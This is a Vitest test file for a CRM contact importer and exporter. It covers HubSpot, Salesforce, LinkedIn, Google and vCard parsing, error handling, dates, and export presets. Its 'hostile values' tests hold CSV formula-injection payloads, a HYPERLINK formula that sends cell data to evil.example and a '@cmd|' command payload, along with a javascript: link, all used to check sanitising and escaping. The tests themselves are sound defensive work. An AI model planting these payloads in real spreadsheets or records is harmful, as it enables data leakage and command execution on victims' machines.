import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { contactsToCsv, CSV_PRESETS, nameParts } from '../../utils/export/csv';
import { contactsToVcard } from '../../utils/export/vcard';
import { detectCsvFormat, ImportError, parseImportFile } from '../../utils/import';
import { parseDate } from '../../utils/import/dates';
import { importSummary } from '../../utils/import/summary';
import type { Contact, Touchpoint } from '../../utils/model';

const dir = path.join(__dirname, '../fixtures/import');
const at = '2026-03-01T00:00:00.000Z';
const read = (f: string) => readFileSync(path.join(dir, f), 'utf8');
const parse = (text: string, fileName?: string) => parseImportFile(text, { defaultKind: 'prospect', at, fileName });
const byName = (b: ReturnType<typeof parse>, name: string) => b.contacts.find((c) => c.name === name)!;

describe('format detection from the header row', () => {
  it.each([
    ['hubspot-contacts.csv', 'hubspot-csv'],
    ['salesforce-contacts.csv', 'salesforce-csv'],
    ['salesforce-leads.csv', 'salesforce-csv'],
    ['Connections.csv', 'linkedin-csv'],
    ['google-contacts.csv', 'google-csv'],
    ['contacts-v3.vcf', 'vcard'],
    ['contacts-v4.vcf', 'vcard'],
  ])('%s is a %s', (file, format) => {
    expect(parse(read(file)).format).toBe(format);
  });

  it('tells the legacy Google header and rejects unknown ones', () => {
    expect(detectCsvFormat(['Name', 'Given Name', 'Additional Name', 'Family Name', 'E-mail 1 - Type', 'E-mail 1 - Value'])).toBe('google-csv');
    expect(detectCsvFormat(['Full name', 'E-mail', 'Phone'])).toBeUndefined();
  });
});

describe('HubSpot contacts export', () => {
  const b = parse(read('hubspot-contacts.csv'), 'hubspot-contacts.csv');
  it('reads names, emails, E.164 phones, company, place, and timestamps from the file', () => {
    expect(b.contacts).toHaveLength(4);
    const priya = byName(b, 'Priya Natarajan');
    expect(priya).toMatchObject({
      firstName: 'Priya', lastName: 'Natarajan', jobTitle: 'VP Operations', company: 'Northwind Logistics',
      emails: ['priya.natarajan@northwind-logistics.com'], phones: ['+14155550134'], location: 'San Francisco, CA, United States',
      createdAt: '2025-09-02T14:21:00.000Z', updatedAt: '2026-01-14T09:05:00.000Z', source: { site: 'hubspot-csv', url: 'import:hubspot-contacts.csv' },
    });
    expect(byName(b, 'Søren Kierkegaard-Holm').location).toBe('København, Denmark');
    expect(b.undated).toEqual([]);
  });
  it('maps lifecycle stage and lead status to kind and stage', () => {
    expect(byName(b, 'Priya Natarajan')).toMatchObject({ kind: 'prospect', stage: 'contacted' });
    expect(byName(b, 'Marcus Oyelaran')).toMatchObject({ kind: 'lead', stage: 'marketing-qualified' });
    expect(byName(b, 'Søren Kierkegaard-Holm')).toMatchObject({ kind: 'prospect', stage: 'customer' });
    expect(byName(b, 'Lena Fischer')).toMatchObject({ kind: 'lead', stage: 'new' });
  });
  it('skips a row that names nobody, and says which', () => {
    expect(b.skipped).toEqual([{ row: 6, reason: 'no name, email or link' }]);
  });
  it('gives the same ids to the same rows every time', () => {
    expect(parse(read('hubspot-contacts.csv')).contacts.map((c) => c.id)).toEqual(b.contacts.map((c) => c.id));
  });
});

describe('Salesforce exports', () => {
  it('contacts (Data Loader API names) are prospects with the description as a note', () => {
    const b = parse(read('salesforce-contacts.csv'));
    const hannah = byName(b, 'Hannah Lindqvist');
    expect(hannah).toMatchObject({ kind: 'prospect', jobTitle: 'Procurement Manager', phones: ['+46855512345'], updatedAt: '2026-01-09T15:02:10.000Z' });
    expect(b.notes).toEqual([expect.objectContaining({ contactId: hannah.id, body: 'Met at Nordic Manufacturing Expo; wants pricing for 200 seats.' })]);
  });
  it('leads (report labels) are leads, staged by Lead Status; a phone without its country stays as written', () => {
    const b = parse(read('salesforce-leads.csv'));
    expect(byName(b, 'Olivia Chen')).toMatchObject({ kind: 'lead', stage: 'engaged', company: 'Harbor & Finch', phones: ['(415) 555-0199'], updatedAt: '2026-03-04T10:15:00.000Z' });
    expect(byName(b, 'Raj Mehta')).toMatchObject({ kind: 'lead', stage: 'new', phones: ['+919876543210'] });
  });
});

describe('LinkedIn Connections.csv', () => {
  const b = parse(read('Connections.csv'));
  it('finds the header below LinkedIn’s note lines and reads every connection', () => {
    expect(b.contacts.map((c) => c.name)).toEqual(['Aisha Bello', 'Tomás García Ruiz', 'Wei Zhang', "Jo O'Neill"]);
    expect(byName(b, 'Wei Zhang')).toMatchObject({ company: 'Lumen, Inc.', jobTitle: 'Senior Engineer, Platform', links: ['https://www.linkedin.com/in/wei-zhang-0a9b8c7d'] });
    expect(byName(b, 'Tomás García Ruiz').emails).toEqual(['tomas.garcia@solaria.es']);
  });
  it('keeps "Connected On" as the creation time, but the file is undated: it never wins a conflict', () => {
    expect(byName(b, 'Aisha Bello').createdAt).toBe('2026-02-04T00:00:00.000Z');
    expect(b.undated).toHaveLength(4);
    expect(b.kindIsDecided).toBe(false);
    expect(b.contacts.every((c) => c.kind === 'prospect')).toBe(true); // the default kind
  });
});

describe('Google Contacts CSV', () => {
  it('reads every e-mail and phone column, labels as tags (without system labels), and multi-line notes', () => {
    const b = parse(read('google-contacts.csv'));
    const camille = byName(b, 'Camille Durand');
    expect(camille).toMatchObject({
      emails: ['camille@atelier-durand.fr', 'camille.durand@example.fr'], phones: ['+33612345678'], company: 'Atelier Durand',
      jobTitle: 'Gérante', location: 'Lyon, France', tags: ['Clients'], links: ['https://www.linkedin.com/in/camille-durand'],
    });
    expect(b.notes.map((n) => n.body)).toEqual(['Met at the Lyon trade fair.\nPrefers email.']);
    expect(byName(b, 'Ben Okafor')).toMatchObject({ phones: ['07700 900456'], tags: [] });
  });
});

describe('vCard', () => {
  it('3.0 (Apple Contacts): structured N, ORG, escaped NOTE, grouped URL, ADR, CATEGORIES, REV', () => {
    const b = parse(read('contacts-v3.vcf'));
    const yuki = byName(b, 'Yuki Nakamura');
    expect(yuki).toMatchObject({
      firstName: 'Yuki', lastName: 'Nakamura', company: 'Sakura Robotics', jobTitle: 'Regional Sales Lead', phones: ['+819012345678'],
      links: ['https://www.linkedin.com/in/yuki-nakamura'], location: 'Chuo-ku, Tokyo, Japan', tags: ['Robotics', 'APAC'], updatedAt: '2026-01-20T08:15:00.000Z',
    });
    expect(b.notes.map((n) => n.body)).toEqual(['Introduced by Aisha, wants a demo in April.\nCall after 10am JST.']);
    expect(b.undated).toEqual([byName(b, 'Ana Silva').id]);
  });
  it('4.0: tel: URIs, a urn:uuid UID becomes the contact id', () => {
    const b = parse(read('contacts-v4.vcf'));
    expect(b.contacts[0]).toMatchObject({ id: '4fbe8971-0bc3-424c-9c26-36c3e1eff6b1', name: 'Fatima Zahra El Amrani', phones: ['+212612345678'], updatedAt: '2026-01-15T10:15:00.000Z' });
  });
});

describe('bad files: a clear error, nothing parsed', () => {
  it.each([
    ['malformed-unclosed-quote.csv', /quoted value that starts on row 2 is never closed/],
    ['malformed-truncated.vcf', /vCard file is damaged/],
    ['unknown-header.csv', /header row is not one we know.*HubSpot/],
  ])('%s', (file, message) => {
    expect(() => parse(read(file))).toThrow(ImportError);
    expect(() => parse(read(file))).toThrow(message);
    expect(() => parse(read(file))).toThrow(/Nothing was imported/);
  });
  it('empty files, non-export JSON, a row with too many values, and a value over the model’s limits', () => {
    expect(() => parse('')).toThrow(/empty/);
    expect(() => parse('{"hello": 1}')).toThrow(/not a Touchpoint export/);
    expect(() => parse('[1,2')).toThrow(/not JSON/);
    expect(() => parse('First Name,Last Name,URL,Email Address,Company,Position,Connected On\nA,B,,,,,,extra,more\n')).toThrow(/row 2 has 9 values but the header has 7 columns/);
    expect(() => parse(`Record ID,First Name,Last Name,Email\n1,${'x'.repeat(600)},B,a@b.se\n`)).toThrow(/Row 2: the (first )?name cannot be imported/);
  });
});

describe('hostile values', () => {
  const b = parse(read('hostile-hubspot.csv'));
  it('are kept as text on one line, never as links or extra lines', () => {
    const [evil, script] = b.contacts;
    expect(evil!.firstName).toBe('=HYPERLINK("http://evil.example/?"&A1;"click")');
    expect(evil!.company).toBe("@cmd|' /C calc'!A0");
    expect(script!.lastName).toBe('Line Break');
    expect(script!.name).not.toMatch(/[\r\n]/);
  });
  it('export them with the formula guard', () => {
    const csv = contactsToCsv(b.contacts, { preset: 'hubspot' });
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(csv).toContain(`'+SUM(1+1)`);
    expect(csv).toContain(`'@cmd|`);
  });
  it('javascript: links and non-addresses are not contact data', () => {
    const r = parse('Record ID,First Name,Email,Website URL\n1,Eve,not-an-email,javascript:alert(1)\n');
    expect(r.contacts[0]).toMatchObject({ emails: [], links: [] });
  });
});

describe('dates', () => {
  it.each([
    ['2024-03-12 09:14', '2024-03-12T09:14:00.000Z'],
    ['2025-05-14T09:12:44.000+0000', '2025-05-14T09:12:44.000Z'],
    ['20260115T101500Z', '2026-01-15T10:15:00.000Z'],
    ['15 Mar 2024', '2024-03-15T00:00:00.000Z'],
    ['3/4/2026, 10:15 PM', '2026-03-04T22:15:00.000Z'],
    ['31/02/2026', undefined],
    ['yesterday', undefined],
  ])('%s', (raw, iso) => expect(parseDate(raw)).toBe(iso));
});

const base = (p: Partial<Contact>): Contact => ({
  id: '0b6f1a52-3c3e-4c59-9a55-1f0f3c1e2d4a', kind: 'prospect', stage: 'meeting-booked', name: 'Anna Maria Svensson', emails: ['anna@acme.com', 'a@home.se'],
  phones: ['+46701234567', '+46812345678'], links: ['https://www.linkedin.com/in/anna', 'https://acme.com'], tags: ['vip'],
  source: { url: 'https://x.test', site: 'generic', capturedAt: at }, provenance: {}, history: [], createdAt: at, updatedAt: at, sync: {},
  campaign: { source: 'newsletter', medium: 'email', name: 'spring-launch' }, ...p,
});
const tp: Touchpoint[] = [
  { id: 't1', contactId: base({}).id, type: 'campaign-response', at: '2026-02-01T10:00:00.000Z' },
  { id: 't2', contactId: base({}).id, type: 'stage-change', at: '2026-02-03T10:00:00.000Z' },
];

describe('export that CRMs import', () => {
  it('HubSpot preset: the template’s headers, split names, E.164 phones without a quote, campaign and last touch', () => {
    const csv = contactsToCsv([base({})], { preset: 'hubspot', touchpoints: tp });
    const [header, row] = csv.slice(1).split('\r\n');
    expect(header).toBe(CSV_PRESETS.hubspot.map(([h]) => h).join(','));
    expect(header!.startsWith('First Name,Last Name,Email,')).toBe(true);
    expect(row).toBe('Anna,Maria Svensson,anna@acme.com,a@home.se,+46701234567,+46812345678,,,,https://acme.com,https://www.linkedin.com/in/anna,Opportunity,In Progress,newsletter,email,spring-launch,Campaign response,2026-02-01T10:00:00.000Z');
  });
  it('Salesforce preset: lead fields, a last name and a company always present', () => {
    const csv = contactsToCsv([base({ name: 'Madonna', company: undefined, phones: [] })], { preset: 'salesforce' });
    const [header, row] = csv.slice(1).split('\r\n');
    expect(header!.startsWith('First Name,Last Name,Title,Company,Email,Phone,Mobile')).toBe(true);
    expect(row!.startsWith('Madonna,Madonna,,[not provided],anna@acme.com,,,')).toBe(true);
    expect(row).toContain('Working - Contacted');
  });
  it('plain CSV keeps its first columns, and a phone that is not strict E.164 keeps the guard', () => {
    const csv = contactsToCsv([base({ phones: ['+46 70 123 45 67'] })]);
    expect(csv.startsWith('\uFEFFid,kind,stage,name,firstName,lastName')).toBe(true);
    expect(csv).toContain(`'+46 70 123 45 67`);
    expect(contactsToCsv([base({})])).toContain(',+46701234567; +46812345678,');
  });
  it('vCard N is family;given, split like the CSV', () => {
    expect(contactsToVcard([base({})])).toContain('\r\nN:Maria Svensson;Anna;;;\r\n');
    expect(contactsToVcard([base({ firstName: 'Anna Maria', lastName: 'Svensson' })])).toContain('\r\nN:Svensson;Anna Maria;;;\r\n');
    expect(nameParts({ name: 'Cher' })).toEqual({ first: 'Cher', last: '' });
  });
  it('round trip: our HubSpot CSV and our vCard come back as the same people, kind and stage included', () => {
    const contacts = [base({}), base({ id: 'c2', kind: 'lead', stage: 'engaged', name: 'Bo Ek', emails: ['bo@ek.se'], phones: [], links: [], campaign: undefined })];
    const fromCsv = parse(contactsToCsv(contacts, { preset: 'hubspot', touchpoints: tp }));
    expect(fromCsv.format).toBe('hubspot-csv');
    expect(fromCsv.contacts.map((c) => [c.name, c.kind, c.stage, c.emails, c.phones, c.campaign?.name])).toEqual([
      ['Anna Maria Svensson', 'prospect', 'meeting-booked', ['anna@acme.com', 'a@home.se'], ['+46701234567', '+46812345678'], 'spring-launch'],
      ['Bo Ek', 'lead', 'engaged', ['bo@ek.se'], [], undefined],
    ]);
    const fromVcard = parse(contactsToVcard(contacts));
    expect(fromVcard.kindIsDecided).toBe(true);
    expect(fromVcard.contacts.map((c) => [c.id, c.kind, c.stage, c.name, c.tags])).toEqual([
      [contacts[0]!.id, 'prospect', 'meeting-booked', 'Anna Maria Svensson', ['vip']],
      ['c2', 'lead', 'engaged', 'Bo Ek', ['vip']],
    ]);
    expect(fromVcard.notes).toEqual([]);
  });
});

describe('the result in words', () => {
  const none = { added: 0, merged: 0, unchanged: 0 };
  it('says "0 new, 4 already there" and that nothing is queued', () => {
    expect(importSummary({ format: 'touchpoint-json', contacts: { ...none, unchanged: 4 }, touchpoints: none, notes: { ...none, keptBoth: 0 }, companies: none, tasks: none, skipped: 0, possibleDuplicates: 0, queued: 0 }))
      .toBe('Touchpoint export: 0 new, 4 already there. Nothing new to sync.');
  });
  it('counts companies and follow-ups', () => {
    expect(importSummary({ format: 'touchpoint-json', contacts: { ...none, added: 3 }, touchpoints: { ...none, added: 3 }, notes: { ...none, keptBoth: 0 }, companies: { ...none, added: 2, unchanged: 1 }, tasks: { ...none, added: 1 }, skipped: 0, possibleDuplicates: 0, queued: 0 }))
      .toBe('Touchpoint export: 3 new, 0 already there. 3 timeline entries added, 1 follow-up added, 2 companies added, 1 company already there. Nothing new to sync.');
  });
  it('names added, merged, kept-both notes and skipped rows', () => {
    expect(importSummary({ format: 'linkedin-csv', contacts: { added: 2, merged: 1, unchanged: 4 }, touchpoints: none, notes: { ...none, added: 1, keptBoth: 1 }, companies: none, tasks: none, skipped: 1, possibleDuplicates: 1, queued: 4 }, 'Connections.csv'))
      .toBe('Connections.csv (LinkedIn connections export): 2 new, 1 merged, 4 already there. 1 note added, 1 note kept beside a different saved note with the same id. 1 person shares an email or profile link with a saved contact of another name: added apart, to review as possible duplicates. 1 row skipped (no name, email or link, or no contact to attach to). 4 changes queued to sync.');
  });
});
